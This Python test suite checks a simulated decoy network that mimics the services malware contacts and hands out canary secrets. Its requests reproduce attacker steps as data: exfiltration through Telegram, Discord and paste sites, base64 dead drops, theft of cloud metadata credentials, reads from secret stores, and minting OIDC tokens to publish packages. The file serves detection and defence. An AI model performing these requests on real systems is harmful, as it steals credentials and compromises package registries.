"""What malware asks, answered as the real ones would: forms on any host, the same twice, canaries handed out."""

from __future__ import annotations

import base64
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.decoy_world import PlayedWorld

BOT = "bot7412345678:AAE" + "x" * 32
HOOK = "/api/webhooks/1124567890123456789/" + "k" * 68


def said(world: PlayedWorld, method: str, url: str, body: bytes = b"", **headers: str) -> Any:
    return json.loads(world.text(method, url, body, **headers))


def test_messengers_are_known_by_form_on_any_host() -> None:
    world = PlayedWorld()
    for host in ("api.telegram.org", "relay.example"):
        assert said(world, "GET", f"https://{host}/{BOT}/getMe")["result"]["id"] == 7412345678
        assert said(world, "POST", f"https://{host}/{BOT}/getUpdates") == {"ok": True, "result": []}
        document = said(world, "POST", f"https://{host}/{BOT}/sendDocument", b"x" * 40)["result"]
        assert document["document"]["file_size"] == 40
        assert document == said(world, "POST", f"https://{host}/{BOT}/sendDocument", b"x" * 40)["result"]
    for host in ("discord.com", "proxy.example"):
        assert world.ask("POST", f"https://{host}{HOOK}", b"{}").status == 204
        assert said(world, "POST", f"https://{host}{HOOK}?wait=true", b"{}")["id"]
        assert said(world, "GET", f"https://{host}{HOOK}")["token"] == "k" * 68
        assert world.text("POST", f"https://{host}/services/T02K8QD1R/B01/" + "z" * 24) == "ok"


def test_a_paste_gives_back_what_was_posted_and_what_was_not_is_a_stage() -> None:
    world = PlayedWorld()
    address = world.text("POST", "https://pastebin.com/api/api_post.php", b"api_dev_key=1&api_paste_code=loot%21",
                         content_type="application/x-www-form-urlencoded")  # fmt: skip
    key = address.rpartition("/")[2]
    assert world.text("GET", f"https://pastebin.com/raw/{key}") == "loot!"
    assert world.text("GET", said(world, "POST", "https://hastebin.com/documents", b"more")["url"]) == "more"
    form = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\nfile\r\n--b--\r\n'
    there = world.text(
        "POST", "https://0x0.st/", form, content_type="multipart/form-data; boundary=b"
    ).strip()
    assert world.text("GET", there) == "file"
    assert "require(" in world.text("GET", "https://pastebin.com/raw/Xa81kq2Z")


def test_an_events_title_and_a_documents_text_lead_on() -> None:
    world = PlayedWorld()
    page = world.text("GET", "https://calendar.app.google/M2ZCvM8ULL56PD1d6")
    title = re.search('data-base-title="([^"]+)"', page)
    assert title is not None
    world.ask("GET", base64.b64decode(title[1]).decode())
    text = world.text("GET", "https://docs.google.com/document/d/1abc/export?format=txt")
    world.ask("GET", base64.b64decode(text).decode())
    assert world.kinds() == ["dead_drop"] * 2


def test_geo_ip_says_the_same_place_everywhere() -> None:
    world = PlayedWorld()
    address = said(world, "GET", "http://ip-api.com/json/")["query"]
    for url in (
        "https://api.ipify.org/",
        "https://ifconfig.me/ip",
        "https://icanhazip.com/",
        "https://ipinfo.io/ip",
    ):
        assert world.text("GET", url).strip() == address
    assert said(world, "GET", "https://api.ipify.org?format=json".replace("?", "/?"))["ip"] == address
    assert said(world, "GET", "https://ipinfo.io/json")["country"] == "DE"
    assert world.text("GET", "https://ipapi.co/country/").strip() == "DE"
    assert said(PlayedWorld("locale"), "GET", "https://ipinfo.io/")["country"] == "RU"
    assert world.kinds() == []


def test_three_clouds_metadata() -> None:
    world = PlayedWorld()
    base = "http://169.254.169.254"
    assert world.ask("GET", f"{base}/latest/api/token").status == 405
    seconds = {"X_aws_ec2_metadata_token_ttl_seconds": "60"}
    assert world.text("PUT", f"{base}/latest/api/token", **seconds)
    assert (
        said(world, "GET", f"{base}/latest/dynamic/instance-identity/document")["accountId"] == "418276530192"
    )
    role = world.text("GET", f"{base}/latest/meta-data/iam/security-credentials/")
    keys = said(world, "GET", f"{base}/latest/meta-data/iam/security-credentials/{role}")
    assert keys["SecretAccessKey"] == world.secret("metadata-aws-secret")
    assert said(world, "GET", "http://169.254.170.2/v2/credentials/1")["Token"] == keys["Token"]
    assert world.ask("GET", "http://169.254.170.23/v1/credentials").status == 400
    pod = said(world, "GET", "http://169.254.170.23/v1/credentials", authorization="x")
    assert pod["AccessKeyId"] == keys["AccessKeyId"] and pod["AccountId"]
    google, flavour = "http://metadata.google.internal/computeMetadata/v1", {"metadata_flavor": "Google"}
    assert world.ask("GET", f"{google}/project/project-id").status == 403
    whole = said(world, "GET", f"{google}/?recursive=true", **flavour)
    assert whole["instance"]["serviceAccounts"]["default"]["email"]
    account = said(world, "GET", f"{google}/instance/service-accounts/default/?recursive=true", **flavour)
    assert account == whole["instance"]["serviceAccounts"]["default"]
    identity = world.text("GET", f"{google}/instance/service-accounts/default/identity?audience=x", **flavour)
    assert identity == world.secret("identity-gcp") and identity.count(".") == 2
    azure = f"{base}/metadata/identity/oauth2/token?resource=https://vault.azure.net"
    assert world.ask("GET", azure).status == 400
    assert said(world, "GET", azure, metadata="true")["access_token"] == world.secret("metadata-azure-token")
    assert set(world.kinds()) == {"cloud_metadata"}


@pytest.mark.parametrize(
    ("url", "body", "headers", "kind"),
    [
        (
            "https://ssm.eu-central-1.amazonaws.com/",
            b'{"Name":"/a"}',
            {"x_amz_target": "AmazonSSM.GetParameter"},
            "ssm",
        ),
        ("https://x.example/", b'{"Names":["/a","/b"]}', {"x_amz_target": "AmazonSSM.GetParameters"}, "ssm"),
        (
            "https://x.example/",
            b'{"SecretId":"a"}',
            {"x_amz_target": "secretsmanager.GetSecretValue"},
            "secretsmanager",
        ),
        ("https://kms.us-east-1.amazonaws.com/", b"{}", {"x_amz_target": "TrentService.Decrypt"}, "kms"),
        (
            "https://secretmanager.googleapis.com/v1/projects/p/secrets/s/versions/latest:access",
            b"",
            {},
            "gcp",
        ),
        (
            "https://corp.vault.azure.net/secrets/db?api-version=7.4",
            b"",
            {"authorization": "Bearer x"},
            "azure",
        ),
        ("https://v.corp.example/v1/secret/data/ci", b"", {"x_vault_token": "t"}, "vault"),
    ],
)
def test_parameter_stores_hand_out_canaries(
    url: str, body: bytes, headers: dict[str, str], kind: str
) -> None:
    world = PlayedWorld()
    secret = world.secret(f"stored-{kind}")
    text = world.text("POST" if body else "GET", url, body, **headers)
    assert secret and (secret in text or base64.b64encode(secret.encode()).decode() in text)
    assert world.kinds() == ["credential_use"]


def test_a_job_is_told_who_it_is_and_a_registry_takes_that_for_a_token() -> None:
    world = PlayedWorld()
    url, token = world.env["ACTIONS_ID_TOKEN_REQUEST_URL"], world.env["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]
    asked = f"{url}&audience=npm:registry.example"
    assert world.ask("GET", asked).status == 401
    minted = said(world, "GET", asked, authorization=f"Bearer {token}")["value"]
    header, payload, _ = minted.split(".")
    assert json.loads(base64.urlsafe_b64decode(header + "==="))["alg"] == "RS256"
    assert "token.actions" in json.loads(base64.urlsafe_b64decode(payload + "==="))["iss"]
    exchange = "https://registry.example/-/npm/v1/oidc/token/exchange/package/%40a%2fb"
    assert said(world, "POST", exchange, authorization=f"Bearer {minted}")["token"] == world.secret(
        "minted-npm-token"
    )
    pypi = json.dumps({"token": minted}).encode()
    got = said(world, "POST", "https://index.example/_/oidc/mint-token", pypi)["token"]
    assert got == world.secret("minted-pypi-token") and said(
        world, "GET", "https://index.example/_/oidc/audience"
    )
    assert world.kinds() == ["credential_use", "registry_account", "registry_account"]
    world.ask("PUT", "https://registry.example/a", b'{"_attachments":{},"versions":{}}')
    assert world.kinds()[-1] == "registry_publish"


def test_a_code_host_refuses_the_token_in_its_world_only_and_the_wish_is_marked_in_both() -> None:
    for name, status in (("default", 201), ("ci", 401)):
        world = PlayedWorld(name)
        wish = world.ask("POST", "https://api.github.com/user/repos", b"{}", authorization="token x")
        assert wish.status == status and world.kinds() == ["repository_change"]
        assert world.ask("GET", "https://api.github.com/rate_limit").status == 200
    assert PlayedWorld("gitlab").ask("GET", "https://gitlab.com/api/v4/user", private_token="x").status == 401


def test_what_is_minted_is_searched_for() -> None:
    kinds = {canary.kind for canary in PlayedWorld().world.spec.canaries}
    assert {f"identity-{name}" for name in ("github", "gitlab", "gcp", "azure")} <= kinds
    assert {"minted-npm-token", "minted-pypi-token", "stored-vault-token"} <= kinds


_HOSTS = st.sampled_from(
    ["api.telegram.org", "discord.com", "slack.com", "pastebin.com", "docs.google.com", "ipinfo.io", "169.254.169.254",
     "metadata.google.internal", "x.vault.azure.net", "secretmanager.googleapis.com", "gitlab.com", "icp0.io",
     "login.microsoftonline.com", "p.actions.githubusercontent.com", "vault", "gofile.io", "hastebin.com"]
)  # fmt: skip
_HEADERS = st.sampled_from([{}, {"x_amz_target": "AmazonSSM.GetParameters"}, {"x_amz_target": "TrentService.Decrypt"},
                            {"x_vault_token": "x"}, {"metadata_flavor": "Google"}, {"metadata": "true"},
                            {"content_type": "multipart/form-data"},
                            {"content_type": "application/x-www-form-urlencoded"}])  # fmt: skip
_PATHS = st.text(st.characters(min_codepoint=33, max_codepoint=255), max_size=60)


@given(st.sampled_from(["GET", "POST", "PUT"]), _HOSTS, _PATHS, st.binary(max_size=80), _HEADERS)
def test_no_request_breaks_them_and_each_is_answered_alike_twice(
    method: str, host: str, path: str, body: bytes, headers: dict[str, str]
) -> None:
    world = PlayedWorld()
    first = world.ask(method, f"https://{host}/{path}", body, **headers)
    assert first == world.ask(method, f"https://{host}/{path}", body, **headers)
